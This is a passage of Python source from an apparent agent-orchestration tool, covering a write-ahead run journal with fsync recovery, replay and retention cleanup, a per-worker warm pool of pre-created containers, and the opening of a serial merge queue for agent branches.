            self._reopen_at = time.monotonic() + _REOPEN_BACKOFF_S
            return False
        try:
            # a blank line is skipped by every reader: it terminates a
            # possibly-torn partial line so re-appends stay parseable
            fh.write("\n")
            for _seq, line in self._ring:
                fh.write(line + "\n")
            fh.flush()
            self._fsync_fh(fh)
        except OSError as e:
            self._last_error = str(e) or type(e).__name__
            try:
                fh.close()
            except OSError:
                pass
            self._reopen_at = time.monotonic() + _REOPEN_BACKOFF_S
            return False
        self._fh = fh
        self._ring.clear()
        self._pending = 0
        self._last_sync = time.monotonic()
        self.recoveries += 1
        _RECOVERIES.inc()
        return True

    def _fsync_locked(self, now: float) -> JournalFault | None:
        """Group-commit fsync; on failure the fd is poisoned and
        recovery (reopen + re-append the ring) runs immediately.
        Returns the fault to surface, or None on clean success."""
        try:
            self._fsync_fh(self._fh)
        except OSError as e:
            err = str(e) or type(e).__name__
            if self._recover_locked():
                return JournalFault("fsync", err, True, 0)
            lost = len(self._ring)
            self._ring.clear()
            self._pending = 0
            self.dropped += lost
            if lost:
                _DROPPED.inc(lost)
            return JournalFault("fsync", err, False, lost)
        self._pending = 0
        self._ring.clear()
        self._last_sync = now
        return None

    # ------------------------------------------------------------- append

    def append(self, kind: str, *, durable: bool = False,
               **fields) -> AppendReceipt:
        """Append one record; with ``durable`` the record (and every
        batched record before it) is fsynced before returning.  The
        receipt says what actually happened -- durable call sites must
        consume it (the ``durable-append-checked`` analyzer enforces
        this)."""
        fault: JournalFault | None = None
        with self._lock:
            now = time.monotonic()
            if self._fh is None and now >= self._reopen_at:
                self._open_locked()
            if self._fh is None:
                self.dropped += 1
                _DROPPED.inc()
                err = self._last_error or "journal unavailable"
                fault = JournalFault("write", err, False, 1)
                receipt = AppendReceipt(False, False, 0, error=err)
            else:
                self._seq += 1
                seq = self._seq
                rec = {"kind": kind, "seq": seq, "ts": self._clock(),
                       **fields}
                line = encode_record(rec)
                err = self._write_locked(line)
                if err:
                    # the fd may hold a torn half-line: rebuild on a
                    # fresh fd with this record riding the ring
                    self._ring.append((seq, line))
                    if self._recover_locked():
                        fault = JournalFault("write", err, True, 0)
                        receipt = AppendReceipt(True, True, seq, error=err)
                    else:
                        self._ring.pop()
                        self.dropped += 1
                        _DROPPED.inc()
                        fault = JournalFault("write", err, False, 1)
                        receipt = AppendReceipt(False, False, seq,
                                                error=err)
                else:
                    self._ring.append((seq, line))
                    if len(self._ring) > _RING_MAX:
                        del self._ring[0]
                    self._pending += 1
                    if (durable or self._pending >= self.fsync_batch_n
                            or now - self._last_sync
                            >= self.fsync_interval_s):
                        fault = self._fsync_locked(now)
                        if fault is None:
                            receipt = AppendReceipt(True, True, seq)
                        elif fault.recovered:
                            receipt = AppendReceipt(True, True, seq,
                                                    error=fault.error)
                        else:
                            receipt = AppendReceipt(
                                False, False, seq, error=fault.error)
                    else:
                        receipt = AppendReceipt(True, False, seq)
        if fault is not None:
            self._note_fault(fault)
        return receipt

    def sync(self) -> bool:
        """Force the batched tail to disk (graceful-shutdown barrier).
        True when everything previously appended is now durable."""
        fault: JournalFault | None = None
        with self._lock:
            if self._fh is None:
                return not self._ring and not self._pending
            if self._pending:
                fault = self._fsync_locked(time.monotonic())
        if fault is not None:
            self._note_fault(fault)
            return fault.recovered
        return True

    def close(self) -> None:
        """Final-sync + close.  The lock covers the WHOLE close (a
        concurrent append can never race the handoff), and a failed
        final fsync is reported like any other fault -- with its drop
        count -- instead of being swallowed."""
        fault: JournalFault | None = None
        with self._lock:
            already, self._closed = self._closed, True
            fh, self._fh = self._fh, None
            self._reopen_at = float("inf")  # closed: no lazy reopen
            pending, self._pending = self._pending, 0
            ring = list(self._ring)
            self._ring.clear()
            if fh is not None:
                err = ""
                if pending:
                    try:
                        self._fsync_fh(fh)
                        ring = []
                    except OSError as e:
                        err = str(e) or type(e).__name__
                try:
                    fh.close()
                except OSError as e:
                    err = err or str(e) or type(e).__name__
                if err and ring:
                    # last-ditch recovery on a fresh fd: the unsynced
                    # tail is the part of the WAL a resume needs most
                    lost = len(ring)
                    try:
                        nfh = open(self.path, "a", encoding="utf-8")
                        nfh.write("\n")
                        for _seq, line in ring:
                            nfh.write(line + "\n")
                        nfh.flush()
                        self._fsync_fh(nfh)
                        nfh.close()
                        lost = 0
                    except OSError:
                        pass
                    if lost:
                        self.dropped += lost
                        _DROPPED.inc(lost)
                        fault = JournalFault("close", err, False, lost)
                    else:
                        self.recoveries += 1
                        _RECOVERIES.inc()
                        fault = JournalFault("close", err, True, 0)
                elif err:
                    fault = JournalFault("close", err, False, 0)
            elif not already:
                # closing a journal that was already fault-poisoned
                # (no live fd): it ends unhealthy, visibly
                self._closed_bad = True
        if fault is not None:
            if not fault.recovered:
                self._closed_bad = True
            self._note_fault(fault)

    @staticmethod
    def read(path: Path) -> list[dict]:
        """Every parseable record, skipping a truncated tail (shared
        crash-tolerant reader -- monitor.ledger.read_jsonl), deduped
        by ``seq``."""
        return dedupe_by_seq(read_jsonl(path))

    @staticmethod
    def read_verified(path: Path) -> tuple[list[dict], IntegrityReport]:
        """The verified prefix + integrity report: what a ``--resume``
        durable fold reconciles from.  A damaged mid-file record stops
        the fold at the last verified record and flags it -- replaying
        past corruption would reconcile against fiction."""
        records, report = read_verified_prefix(path)
        return dedupe_by_seq(records), report


def dedupe_by_seq(records: list[dict]) -> list[dict]:
    """Drop re-appended duplicates, keeping FIRST occurrence per seq.

    A failed write or fsync poisons the journal fd and recovery
    re-appends the whole unsynced ring onto a fresh one
    (:meth:`RunJournal._recover_locked`) -- but a record written and
    flushed *before* the fault may already be in the file, and after a
    failed fsync there is no way to know which dirty pages survived.
    Exactly-once on disk is therefore impossible; the contract is
    at-least-once on disk, exactly-once at read, keyed by the ``seq``
    every record carries (seq continues across resume generations, so
    first-wins never collapses two real records).  Legacy records
    without a seq pass through untouched."""
    seen: set[int] = set()
    out: list[dict] = []
    for rec in records:
        seq = rec.get("seq")
        if isinstance(seq, int):
            if seq in seen:
                continue
            seen.add(seq)
        out.append(rec)
    return out


# --------------------------------------------------------------------------
# replay: journal records -> the run image --resume reconciles from
# --------------------------------------------------------------------------

# statuses a resume picks back up ("stopped" is the clean-drain state --
# resuming after a graceful Ctrl-C is the whole point of journaling it)
RESUMABLE_STATUSES = ("pending", "running", "orphaned", "stopped")


@dataclass
class LoopImage:
    """One agent loop's journaled state, folded to the latest record."""

    agent: str
    worker: str = ""
    epoch: int = 0
    iteration: int = 0
    exit_codes: list[int] = field(default_factory=list)
    consecutive_failures: int = 0
    status: str = "pending"
    container_id: str = ""
    started: bool = False       # current iteration journaled as started
    migrations: int = 0
    abandoned: list[tuple[str, str]] = field(default_factory=list)

    @property
    def resumable(self) -> bool:
        return self.status in RESUMABLE_STATUSES


@dataclass
class PoolImage:
    """One warm-pool member's journaled state, folded to the latest
    record.  ``pending`` = admitted but never created (mid-refill
    crash); ``ready`` = created and adoptable; ``adopted`` /
    ``removed`` = consumed -- reconcile must not hand it out again."""

    agent: str                  # pool placeholder agent name
    worker: str = ""
    cid: str = ""
    state: str = "pending"      # pending | ready | adopted | removed
    adopted_by: str = ""


@dataclass
class RunImage:
    """A whole run's journaled state: what replay() hands the scheduler."""

    run_id: str = ""
    project: str = ""
    spec: dict = field(default_factory=dict)
    workers: list[str] = field(default_factory=list)
    loops: dict[str, LoopImage] = field(default_factory=dict)
    pool: dict[str, PoolImage] = field(default_factory=dict)
    clean_shutdown: bool = False
    generation: int = 0         # how many resumes already hit this run
    capacity: dict = field(default_factory=dict)
    #                             latest elastic-capacity controller
    #                             state: {pool_targets, token_caps,
    #                             queue_modes, drained} -- what a resume
    #                             hands CapacityController.restore()
    queued_order: list[str] = field(default_factory=list)
    #                             agents whose latest launch entered the
    #                             admission queue but never reached a
    #                             create/adopt/terminal record, in queue
    #                             order -- what --resume re-enqueues
    #                             FIRST so pending-queue order survives
    #                             a scheduler death
    seeds: dict[str, int] = field(default_factory=dict)
    #                             workspace seed digests built this run
    #                             (digest -> tar byte count): resume can
    #                             tell a re-build from a first build
    seeded: dict[str, list[str]] = field(default_factory=dict)
    #                             digest -> workers whose seed store
    #                             holds (or was mid-receiving) that
    #                             seed -- resume must not re-ship, just
    #                             re-verify (docs/loop-worktrees.md)
    worktrees: dict[str, dict] = field(default_factory=dict)
    #                             agent -> {path, branch, base}: every
    #                             worktree whose provision was journaled
    #                             write-ahead; resume RE-ATTACHES these
    #                             via the idempotent setup_worktree path
    #                             instead of creating duplicates
    gitguard_rules: list[str] = field(default_factory=list)
    #                             egress rule keys this run installed for
    #                             the gitguard lane (pre-add WAL): resume
    #                             re-arms teardown for exactly these keys
    gitguard_decisions: dict[str, int] = field(default_factory=dict)
    #                             verdict -> count folded from decision
    #                             records (status/summary surfaces)
    storage_faults: int = 0
    #                             journaled durable-append faults: > 0
    #                             means the run ran degraded at some
    #                             point and the journal may be missing
    #                             records (docs/durability.md) -- a
    #                             resume reconciles extra-carefully and
    #                             surfaces the degradation


def replay(records: list[dict]) -> RunImage:
    """Fold journal records (in FILE order) into a :class:`RunImage`.

    File order is chronological by construction -- the journal is
    append-only under one lock, across resume generations too -- so no
    re-sort happens here (sorting by ``seq`` would interleave a journal
    whose earlier generations were written by a pre-continuation-seq
    writer).  Tolerant by design: unknown kinds are skipped (a newer
    CLI's journal must still resume under an older one as far as it
    can), and every field read is defaulted -- a torn record that parsed
    as JSON but lost fields must not kill the replay.  Re-appended
    recovery duplicates fold once (:func:`dedupe_by_seq`) no matter
    which reader produced ``records``.
    """
    img = RunImage()
    for rec in dedupe_by_seq(records):
        kind = rec.get("kind", "")
        if kind == REC_RUN:
            img.run_id = str(rec.get("run", ""))
            img.project = str(rec.get("project", ""))
            img.spec = dict(rec.get("spec") or {})
            img.workers = [str(w) for w in rec.get("workers") or []]
            continue
        if kind == REC_SHUTDOWN:
            img.clean_shutdown = True
            continue
        if kind == REC_RESUME:
            img.generation = int(rec.get("generation", img.generation + 1))
            continue
        if kind == REC_STORAGE_FAULT:
            img.storage_faults += 1
            continue
        if kind in (REC_CAPACITY_POOL, REC_CAPACITY_TOKENS,
                    REC_CAPACITY_QUEUE, REC_CAPACITY_SCALE):
            # capacity decisions fold latest-wins into their own table:
            # a resume restores the controller where it left off
            cap = img.capacity
            wid = str(rec.get("worker", ""))
            if kind == REC_CAPACITY_POOL and wid:
                cap.setdefault("pool_targets", {})[wid] = int(
                    rec.get("target", 0))
            elif kind == REC_CAPACITY_TOKENS and wid:
                cap.setdefault("token_caps", {})[wid] = int(
                    rec.get("cap", 0))
            elif kind == REC_CAPACITY_QUEUE and wid:
                cap.setdefault("queue_modes", {})[wid] = (
                    float(rec.get("retry_after_s", 0.0))
                    if str(rec.get("mode", "")) == "reject" else 0.0)
            elif kind == REC_CAPACITY_SCALE:
                if str(rec.get("action", "")) != "drain" or not wid:
                    continue
                phase = str(rec.get("phase", ""))
                pending = cap.setdefault("pending_drain", [])
                if phase in ("blocked", "intent"):
                    if wid not in pending:
                        pending.append(wid)
                elif phase in ("done", "failed"):
                    if wid in pending:
                        pending.remove(wid)
                    if phase == "done":
                        cap.setdefault("drained", []).append(wid)
            continue
        if kind == REC_SEED_TAR:
            digest = str(rec.get("digest", ""))
            if digest:
                img.seeds[digest] = int(rec.get("bytes", 0))
            continue
        if kind == REC_SEED_SHIP:
            digest = str(rec.get("digest", ""))
            wid = str(rec.get("worker", ""))
            if digest and wid:
                shipped = img.seeded.setdefault(digest, [])
                if wid not in shipped:
                    shipped.append(wid)
            continue
        if kind == REC_SEED_WORKTREE:
            # worktree provisioning is keyed by agent but must NOT
            # materialize a LoopImage -- provisioning precedes placement
            wa = str(rec.get("agent", ""))
            if wa:
                img.worktrees[wa] = {
                    "path": str(rec.get("path", "")),
                    "branch": str(rec.get("branch", "")),
                    "base": str(rec.get("base", "")),
                }
            continue
        if kind == REC_GITGUARD_RULES:
            for key in rec.get("keys") or []:
                if str(key) not in img.gitguard_rules:
                    img.gitguard_rules.append(str(key))
            continue
        if kind == REC_GITGUARD_DECISION:
            verdict = str(rec.get("verdict", "")) or "unknown"
            img.gitguard_decisions[verdict] = (
                img.gitguard_decisions.get(verdict, 0) + 1)
            continue
        if kind in (REC_POOL_ADD, REC_POOL_READY, REC_POOL_ADOPT,
                    REC_POOL_REMOVE):
            # pool members fold into their own table -- their placeholder
            # agent names must never materialize as loops
            pa = str(rec.get("agent", ""))
            if not pa:
                continue
            member = img.pool.setdefault(pa, PoolImage(agent=pa))
            member.worker = str(rec.get("worker", member.worker))
            if kind == REC_POOL_READY:
                member.cid = str(rec.get("cid", member.cid))
                member.state = "ready"
            elif kind == REC_POOL_ADOPT:
                member.cid = str(rec.get("cid", member.cid))
                member.state = "adopted"
                member.adopted_by = str(rec.get("by", ""))
            elif kind == REC_POOL_REMOVE:
                member.state = "removed"
            continue
        agent = str(rec.get("agent", ""))
        if not agent:
            continue
        loop = img.loops.setdefault(agent, LoopImage(agent=agent))
        if kind == REC_ADMIT_QUEUED:
            # latest queue entry wins its position (a re-placement
            # re-enqueues at the back, exactly like the live queue)
            if agent in img.queued_order:
                img.queued_order.remove(agent)
            img.queued_order.append(agent)
            continue
        if kind in (REC_CREATED, REC_STARTED, REC_EXITED, REC_ADOPTED,
                    REC_ORPHANED, REC_LOOP_END):
            # the queued launch either dispatched (create/adopt) or the
            # placement it belonged to died: it is no longer pending
            if agent in img.queued_order:
                img.queued_order.remove(agent)
        if kind == REC_PLACEMENT:
            loop.worker = str(rec.get("worker", loop.worker))
            loop.epoch = int(rec.get("epoch", loop.epoch))
            loop.status = "pending"
            loop.container_id = ""
            loop.started = False
        elif kind == REC_CREATED:
            loop.container_id = str(rec.get("cid", ""))
        elif kind == REC_STARTED:
            loop.iteration = int(rec.get("iteration", loop.iteration))
            loop.started = True
            loop.status = "running"
        elif kind == REC_EXITED:
            code = rec.get("code")
            if code is not None:
                loop.exit_codes.append(int(code))
                loop.consecutive_failures = (
                    0 if int(code) == 0 else loop.consecutive_failures + 1)
            loop.iteration = int(rec.get("iteration", loop.iteration)) + 1
            loop.started = False
            loop.status = "running"
        elif kind == REC_ADOPTED:
            loop.container_id = str(rec.get("cid", loop.container_id))
            loop.iteration = int(rec.get("iteration", loop.iteration))
            loop.started = True
            loop.status = "running"
        elif kind == REC_ORPHANED:
            cid = str(rec.get("cid", ""))
            wid = str(rec.get("worker", loop.worker))
            if cid:
                loop.abandoned.append((wid, cid))
            loop.container_id = ""
            loop.started = False
            loop.status = "orphaned"
        elif kind == REC_MIGRATED:
            loop.migrations += 1
        elif kind == REC_LOOP_END:
            loop.status = str(rec.get("status", "stopped"))
            if loop.status == "stopped":
                # the drain deliberately halted any in-flight iteration:
                # billing its docker-stop kill code as a real exit would
                # burn budget and failure ceiling for work the scheduler
                # itself interrupted -- resume re-runs the iteration
                loop.started = False
    return img


# --------------------------------------------------------------------------
# emergency retention GC (docs/durability.md): the disk-pressure hard
# watermark's last resort before a durable append is allowed to fail
# --------------------------------------------------------------------------

RETENTION_RUNS = 64             # newest journals always kept


def run_is_done(img: RunImage) -> bool:
    """A journal whose replay shows a finished run: clean shutdown, or
    every loop folded to a terminal (non-resumable) status.  Only these
    are GC-eligible -- deleting a resumable run's WAL would destroy the
    exact evidence ``--resume`` needs."""
    if img.clean_shutdown:
        return True
    if not img.loops:
        return False            # headers only / unreadable: keep
    return all(l.status in ("done", "failed") for l in img.loops.values())


def retention_gc(logs_dir: Path, *, keep: int = RETENTION_RUNS) -> dict:
    """Delete journals + flight files of DONE runs past the newest
    ``keep`` (they otherwise live forever).  Called by the
    disk-pressure ladder at the hard watermark, and safe to call any
    time: resumable runs are never touched, recency is by mtime, and
    every unlink is best-effort.  Returns ``{"removed", "freed_bytes",
    "scanned"}`` for the ``storage_gc_*`` metrics and status surfaces.
    """
    runs_dir = Path(logs_dir) / RUNS_DIR
    try:
        journals = sorted(runs_dir.glob("*.journal"),
                          key=lambda p: p.stat().st_mtime, reverse=True)
    except OSError:
        return {"removed": 0, "freed_bytes": 0, "scanned": 0}
    removed = 0
    freed = 0
    for jp in journals[max(0, int(keep)):]:
        try:
            img = replay(read_jsonl(jp))
        except Exception:       # noqa: BLE001 -- an unreadable journal
            continue            # is evidence; never GC evidence blindly
        if not run_is_done(img):
            continue
        run_id = jp.stem
        victims = [jp]
        fp = flight_path(logs_dir, run_id)
        victims.extend([fp, Path(str(fp) + ".1")])
        for path in victims:
            try:
                size = path.stat().st_size
                path.unlink()
                freed += size
            except OSError:
                continue
        removed += 1
    return {"removed": removed, "freed_bytes": freed,
            "scanned": len(journals)}
