"""Per-worker warm pool: pre-created agent containers placements adopt.

Framework cold start is dominated by work that does NOT depend on which
agent asks for it: ``engine_create`` + ``workspace_seed`` +
``harness_seed`` + the expensive half of ``identity_bootstrap``
(BENCH_r05: 8.95ms p50, with identity 7.0ms and harness seeding 3.3ms).
The :class:`WarmPool` runs exactly those stages off the hot path: it
keeps each worker's pool at a configurable target depth of
created-not-yet-started containers under placeholder agent names, and a
placement that finds one ADOPTS it -- relabel/env-fixup + rename +
``engine_start`` -- instead of paying a full bootstrap
(docs/loop-warmpool.md; the adoption fixups live in
:meth:`~clawker_tpu.runtime.orchestrate.AgentRuntime.adopt_pooled`).

Division of labor: the pool OWNS membership bookkeeping, depth
accounting, journaling, and telemetry; the scheduler owns every engine
interaction (fills and removals ride the owning worker's serial lane,
refill admission rides the shared token bucket under a dedicated
low-weight tenant so refills never starve live placements).

Durability: every membership transition is journaled write-ahead in the
run journal (``pool_add`` before the create is submitted, ``pool_ready``
once the engine returned a cid, ``pool_adopt`` before adoption fixups
start, ``pool_remove`` when a member is recycled/drained/swept), so
``clawker loop --resume`` restores still-usable members into the pool
and sweeps the rest -- a pre-created container can never leak as an
untracked ghost because the scheduler died mid-fill or mid-adoption.

Thread-safety: checkout runs on lane threads (inside ``_create``),
refill accounting on the run thread, fill completions on lane
done-callbacks -- one lock guards all membership state.
"""

from __future__ import annotations

import threading
import time
from dataclasses import dataclass, field

from .. import logsetup, telemetry
from ..engine.drivers import Worker
from .journal import (
    REC_POOL_ADD,
    REC_POOL_ADOPT,
    REC_POOL_READY,
    REC_POOL_REMOVE,
    receipt_synced,
)

log = logsetup.get("loop.warmpool")

POOL_TENANT = "~warmpool"       # admission fairness class refills bill
#                                 under -- low weight, so the WFQ hands
#                                 real placements the tokens first

_HITS = telemetry.counter(
    "warm_pool_hits_total",
    "Placements satisfied by adopting a warm-pool container",
    labels=("worker",))
_MISSES = telemetry.counter(
    "warm_pool_misses_total",
    "Placements that found the pool empty and paid a cold create",
    labels=("worker",))
_DEPTH = telemetry.gauge(
    "warm_pool_depth", "Adoptable warm-pool containers per worker",
    labels=("worker",))
_REFILLS = telemetry.counter(
    "warm_pool_refills_total", "Pool members created by refill fills",
    labels=("worker",))
_RECYCLED = telemetry.counter(
    "warm_pool_recycled_total",
    "Pool members removed (expired, failed adoption, drained, swept)",
    labels=("worker", "reason"))


@dataclass
class PoolEntry:
    """One adoptable pre-created container."""

    agent: str                  # placeholder agent name (names the container)
    worker: Worker
    cid: str
    created_at: float = 0.0


@dataclass
class _WorkerPool:
    worker: Worker
    ready: list[PoolEntry] = field(default_factory=list)
    inflight: int = 0           # refills admitted but not yet ready


class WarmPool:
    """Membership/bookkeeping half of the warm-pool subsystem.

    ``journal`` is the scheduler's ``_journal`` callable (or None);
    every mutation journals write-ahead through it.  The pool never
    touches an engine -- callers run the create/remove the pool's
    bookkeeping describes.
    """

    def __init__(self, run_id: str, *, depth: int, max_age_s: float = 600.0,
                 journal=None, clock=time.monotonic):
        self.run_id = run_id
        self.depth = max(0, int(depth))
        self.max_age_s = float(max_age_s)
        self.tenant = POOL_TENANT
        self._journal = journal or (lambda kind, **fields: None)
        self._clock = clock
        self._lock = threading.Lock()
        self._pools: dict[str, _WorkerPool] = {}
        self._targets: dict[str, int] = {}   # per-worker adaptive target
        #                             overrides (the elastic-capacity
        #                             controller's seam; docs/
        #                             elastic-capacity.md) -- absent
        #                             workers fall back to self.depth
        self._seq = 0
        self.draining = False
        self.hits = 0
        self.misses = 0
        self.refills = 0
        self.recycled = 0

    def _pool(self, worker: Worker) -> _WorkerPool:
        pool = self._pools.get(worker.id)
        if pool is None:
            pool = _WorkerPool(worker=worker)
            self._pools[worker.id] = pool
        return pool

    def _set_depth(self, pool: _WorkerPool) -> None:
        _DEPTH.labels(pool.worker.id).set(len(pool.ready))

    # ------------------------------------------------------------- checkout

    def checkout(self, worker_id: str, *, by: str, epoch: int
                 ) -> PoolEntry | None:
        """Pop the oldest adoptable member for ``worker_id`` (oldest
        first, so members cycle before ``max_age_s`` where demand
        allows).  Journals the adoption write-ahead -- the caller
        finalizes (relabel/env/rename) AFTER this returns, so a crash
        mid-adoption replays as a consumed member whose half-finalized
        container is swept, never double-adopted."""
        with self._lock:
            pool = self._pools.get(worker_id)
            if pool is None or not pool.ready:
                self.misses += 1
                _MISSES.labels(worker_id).inc()
                return None
            entry = pool.ready.pop(0)
            self.hits += 1
            _HITS.labels(worker_id).inc()
            self._set_depth(pool)
        rcpt = self._journal(REC_POOL_ADOPT, durable=True, agent=entry.agent,
                             worker=worker_id, cid=entry.cid, by=by,
                             epoch=epoch)
        if not receipt_synced(rcpt):
            # degrade loudly: the member is already popped and the
            # container exists -- a resume sweeps it by cid even
            # without the adopt record (scheduler handles the global
            # degraded-durability state)
            log.warning("pool adopt of %s not durable (storage fault)",
                        entry.agent)
        return entry

    def adoption_failed(self, entry: PoolEntry, reason: str) -> None:
        """The finalize fixups failed: the member is consumed (its
        container is the caller's to remove) and the placement falls
        back to a cold create."""
        self._journal(REC_POOL_REMOVE, agent=entry.agent,
                      worker=entry.worker.id, cid=entry.cid, reason=reason)
        with self._lock:
            self.recycled += 1
        _RECYCLED.labels(entry.worker.id, "adoption_failed").inc()

    # --------------------------------------------------------------- refill

    def target_of(self, worker_id: str) -> int:
        """The worker's live target depth: the adaptive per-worker
        override when the capacity controller set one, else the static
        ``depth`` the run was configured with."""
        with self._lock:
            return self._target_locked(worker_id)

    def _target_locked(self, worker_id: str) -> int:
        return self._targets.get(worker_id, self.depth)

    def set_target(self, worker_id: str, depth: int) -> None:
        """Adjust one worker's target depth (the elastic-capacity
        seam).  Raising takes effect at the next refill tick; lowering
        never removes ready members eagerly -- placements adopt the
        surplus down (oldest first), so shrink costs nothing."""
        with self._lock:
            self._targets[worker_id] = max(0, int(depth))

    def want(self, worker_id: str) -> int:
        """How many refills ``worker_id`` needs to reach target depth."""
        with self._lock:
            target = self._target_locked(worker_id)
            if self.draining or not target:
                return 0
            pool = self._pools.get(worker_id)
            if pool is None:
                return target
            return max(0, target - len(pool.ready) - pool.inflight)

    def begin_refill(self, worker: Worker) -> str | None:
        """Reserve one refill slot; returns the new member's placeholder
        agent name (journaled write-ahead, durable BEFORE the caller
        submits the create) or None when the pool needs nothing."""
        with self._lock:
            target = self._target_locked(worker.id)
            if self.draining or not target:
                return None
            pool = self._pool(worker)
            if len(pool.ready) + pool.inflight >= target:
                return None
            self._seq += 1
            agent = f"pool-{self.run_id[:6]}-p{self._seq}"
            pool.inflight += 1
        rcpt = self._journal(REC_POOL_ADD, durable=True, agent=agent,
                             worker=worker.id)
        if not receipt_synced(rcpt):
            # the add record is the write-ahead for the create: if it
            # is not durable a crash mid-fill leaks the container as an
            # untracked ghost.  Release the reservation and skip this
            # refill -- the pool retries next admission pass.
            with self._lock:
                pool = self._pool(worker)
                pool.inflight = max(0, pool.inflight - 1)
            log.warning("pool refill %s skipped: add record not durable "
                        "(storage fault)", agent)
            return None
        return agent

    def fill_done(self, worker: Worker, agent: str, cid: str | None,
                  error: str = "") -> bool:
        """Complete a refill.  With a ``cid`` the member becomes
        adoptable (journaled durable -- the cid is what a resume sweeps
        by); without one the reservation is released.  Returns False
        when the created container must be DISCARDED by the caller (the
        pool started draining while the fill was on the lane)."""
        with self._lock:
            pool = self._pool(worker)
            pool.inflight = max(0, pool.inflight - 1)
            if cid is None:
                self._journal(REC_POOL_REMOVE, agent=agent, worker=worker.id,
                              cid="", reason=error or "fill failed")
                return True
            if self.draining:
                keep = False
            else:
                keep = True
                pool.ready.append(PoolEntry(
                    agent=agent, worker=worker, cid=cid,
                    created_at=self._clock()))
                self.refills += 1
                self._set_depth(pool)
        if keep:
            _REFILLS.labels(worker.id).inc()
            rcpt = self._journal(REC_POOL_READY, durable=True, agent=agent,
                                 worker=worker.id, cid=cid)
            if not receipt_synced(rcpt):
                # degrade loudly: the member stays adoptable this
                # generation; without the ready record a resume sweeps
                # the container instead of restoring it
                log.warning("pool member %s ready record not durable "
                            "(storage fault)", agent)
        else:
            self._journal(REC_POOL_REMOVE, agent=agent, worker=worker.id,
                          cid=cid, reason="drained")
            _RECYCLED.labels(worker.id, "drained").inc()
        return keep

    def restore(self, worker: Worker, agent: str, cid: str) -> bool:
        """Re-adopt a journaled member found still ``created`` at
        resume reconcile.  Refuses (caller sweeps) past target depth."""
        with self._lock:
            target = self._target_locked(worker.id)
            if self.draining or not target:
                return False
            pool = self._pool(worker)
            if len(pool.ready) + pool.inflight >= target:
                return False
            # a fresh generation's seq restarts at 1: bump it past the
            # restored member so a refill can never reuse a LIVE
            # member's deterministic name (create with replace=True
            # would clobber the restored container)
            tail = agent.rsplit("-p", 1)
            if len(tail) == 2 and tail[1].isdigit():
                self._seq = max(self._seq, int(tail[1]))
            pool.ready.append(PoolEntry(
                agent=agent, worker=worker, cid=cid,
                created_at=self._clock()))
            self._set_depth(pool)
        rcpt = self._journal(REC_POOL_READY, durable=True, agent=agent,
                             worker=worker.id, cid=cid, resumed=True)
        if not receipt_synced(rcpt):
            log.warning("pool restore of %s not durable (storage fault)",
                        agent)
        return True

    # ------------------------------------------------------------ lifecycle

    def take_expired(self) -> list[PoolEntry]:
        """Pop members older than ``max_age_s`` (their pre-staged
        workspace/harness snapshot is stale); the caller removes the
        containers."""
        now = self._clock()
        out: list[PoolEntry] = []
        with self._lock:
            for pool in self._pools.values():
                fresh = []
                for e in pool.ready:
                    if now - e.created_at >= self.max_age_s:
                        out.append(e)
                    else:
                        fresh.append(e)
                if len(fresh) != len(pool.ready):
                    pool.ready = fresh
                    self._set_depth(pool)
        if out:
            with self._lock:
                self.recycled += len(out)
        for e in out:
            _RECYCLED.labels(e.worker.id, "expired").inc()
            self._journal(REC_POOL_REMOVE, agent=e.agent, worker=e.worker.id,
                          cid=e.cid, reason="expired")
        return out

    def begin_drain(self) -> None:
        """Stop refills; in-lane fills discard their containers."""
        with self._lock:
            self.draining = True

    def drain_worker(self, worker_id: str) -> list[PoolEntry]:
        """Pop every member on ``worker_id`` (runs on that worker's
        lane AFTER queued fills, so nothing can be added behind it);
        the caller removes the containers."""
        with self._lock:
            pool = self._pools.get(worker_id)
            if pool is None:
                return []
            out, pool.ready = pool.ready, []
            self.recycled += len(out)
            self._set_depth(pool)
        for e in out:
            _RECYCLED.labels(worker_id, "drained").inc()
            self._journal(REC_POOL_REMOVE, agent=e.agent, worker=worker_id,
                          cid=e.cid, reason="drained")
        return out

    def workers(self) -> list[Worker]:
        """Workers holding members or in-flight refills (drain targets)."""
        with self._lock:
            return [p.worker for p in self._pools.values()
                    if p.ready or p.inflight]

    # ----------------------------------------------------------------- view

    def depth_of(self, worker_id: str) -> int:
        with self._lock:
            pool = self._pools.get(worker_id)
            return len(pool.ready) if pool is not None else 0

    def stats(self) -> dict:
        with self._lock:
            workers = sorted(set(self._pools) | set(self._targets))
            return {
                "target_depth": self.depth,
                "adaptive": bool(self._targets),
                "hits": self.hits,
                "misses": self.misses,
                "refills": self.refills,
                "recycled": self.recycled,
                "workers": {
                    wid: {
                        "ready": len(self._pools[wid].ready)
                        if wid in self._pools else 0,
                        "inflight": self._pools[wid].inflight
                        if wid in self._pools else 0,
                        "target": self._target_locked(wid),
                    } for wid in workers
                },
            }
