"""Merge queue: serial branch-per-agent landings for worktree swarms.

At iteration end every agent's branch holds that iteration's work.  The
queue lands them ONE AT A TIME onto the run's integration branch
(``gitx.GitManager.merge_into``) -- serializing is what turns N
concurrent agents on one repo into a linear history instead of a merge
storm.  A landing that conflicts is not dropped: the losing entry is
resubmitted with a backoff (the scheduler feeds the admission
controller's ``retry_after_s`` in as the delay, so merge retries queue
behind real launches under pressure -- docs/loop-worktrees.md#merge-queue)
until ``max_attempts`` is exhausted, at which point it lands in
``report.failed`` for the operator.

Pure bookkeeping + git: no engine calls, no threads -- the scheduler
drives :meth:`MergeQueue.drain` from its run thread under ``_git_lock``,
the same lock every worktree provision takes, so the repo never sees a
merge race a ``worktree add``.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field

from ..gitx.git import GitManager, MergeConflict


@dataclass
class MergeEntry:
    """One branch waiting to land."""

    agent: str
    branch: str
    attempts: int = 0
    not_before: float = 0.0     # monotonic clock gate (conflict backoff)


@dataclass
class MergeReport:
    """What one drain pass accomplished."""

    landed: list[tuple[str, str]] = field(default_factory=list)
    #                             (agent, outcome) -- outcome is the
    #                             merge_into verdict: clean | ff | merged
    resubmitted: list[str] = field(default_factory=list)
    #                             agents whose landing conflicted and
    #                             went back into the queue with backoff
    failed: list[str] = field(default_factory=list)
    #                             agents that exhausted max_attempts
    deferred: list[str] = field(default_factory=list)
    #                             agents still inside their backoff
    #                             window (not attempted this pass)


class MergeQueue:
    """FIFO of agent branches; conflict losers re-queue with backoff."""

    def __init__(self, *, retry_s: float = 0.5, max_attempts: int = 3,
                 clock=time.monotonic):
        self.retry_s = float(retry_s)
        self.max_attempts = max(1, int(max_attempts))
        self._clock = clock
        self._entries: list[MergeEntry] = []

    def submit(self, agent: str, branch: str, *, delay_s: float = 0.0) -> None:
        """Enqueue (or re-enqueue) one agent's branch.  A resubmit for an
